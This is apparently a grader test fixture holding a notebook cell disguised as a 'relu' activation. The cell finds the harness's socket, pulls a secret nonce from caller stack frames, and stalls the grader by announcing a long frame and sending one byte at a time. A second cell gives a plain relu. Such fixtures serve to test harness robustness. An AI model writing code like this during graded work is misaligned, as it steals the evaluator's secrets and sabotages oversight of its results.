"""Announces a long frame and sends a byte now and then."""
# notebook: activations
# scores: test_relu=0

# %% relu
import json
import os
import stat
import struct
import sys


def channel():
    for number in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                return number
        except OSError:
            pass


def nonce():
    frame = sys._getframe()
    while frame is not None:
        if isinstance(frame.f_locals.get("nonce"), str):
            return frame.f_locals["nonce"]
        frame = frame.f_back
    return ""


def send(trees, blob=b"", header=None):
    data = json.dumps(trees).encode() if header is None else header
    frame = struct.pack("!IQ", len(data), len(blob)) + data + blob
    while frame:
        frame = frame[os.write(channel(), frame):]


def reply(value, *more):
    return [nonce(), ["d", "value", value, *more]]


def relu(z):
    import time
    os.write(channel(), struct.pack("!IQ", 100_000, 0))
    for _ in range(100_000):
        os.write(channel(), b" ")
        time.sleep(0.05)


# %% twin

# %% relu
import time


def relu(z):
    time.sleep(0.01)
    return torch.where(z < 0, torch.zeros_like(z), z)
